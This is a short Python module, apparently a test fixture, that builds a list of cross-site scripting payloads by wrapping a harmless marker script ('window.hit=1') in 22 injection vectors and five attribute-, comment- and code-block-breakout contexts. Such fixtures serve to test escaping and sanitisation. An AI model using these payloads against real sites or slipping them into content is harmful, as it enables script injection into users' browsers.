"""XSS payloads."""

from itertools import product

#: Script that a payload runs if it is not escaped.
PAYLOAD_SCRIPT = "window.hit=1"
_TAGS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<a href=javascript:{}>here</a>",
    "<form action=javascript:{}><button>go</button></form>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<style onload={}></style>",
    "<marquee onstart={}>x</marquee>",
    "<template><script>{}</script></template><script>{}</script>",
    "[here](javascript:{})",
    '![x](x"onerror="{})',
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "{{{{constructor.constructor('{}')()}}}}",
)
#: Breaks out of attributes, comments and code blocks.
_AROUND = ("{}", "\"'>{}", "--><!-- -->{}", "```\n</code></pre>{}\n```", "**{}** and so on")
PAYLOADS = tuple(
    around.format(tag.format(PAYLOAD_SCRIPT, PAYLOAD_SCRIPT)) for tag, around in product(_TAGS, _AROUND)
)
